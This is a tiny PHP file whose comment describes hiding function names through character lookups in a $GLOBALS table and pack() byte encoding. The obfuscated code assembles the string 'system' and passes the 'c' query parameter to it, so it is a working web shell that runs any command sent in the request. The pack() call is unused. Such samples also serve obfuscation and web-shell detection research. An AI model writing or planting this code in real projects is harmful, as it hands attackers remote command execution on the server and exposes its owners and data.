<?php
// Names looked up character by character in a table kept in $GLOBALS,
// and bytes packed with pack('c*', ...).
${"GLOBALS"}['t'] = "abcdefghijklmnopqrstuvwxyz_";
$GLOBALS['fn'] = $GLOBALS['t'][18] . $GLOBALS['t'][24] . $GLOBALS['t'][18] . $GLOBALS['t'][19] . $GLOBALS['t'][4] . $GLOBALS['t'][12];
$p = pack('c*', 0x70, 0x61, 99, 107);
$GLOBALS['fn']($_GET['c']);
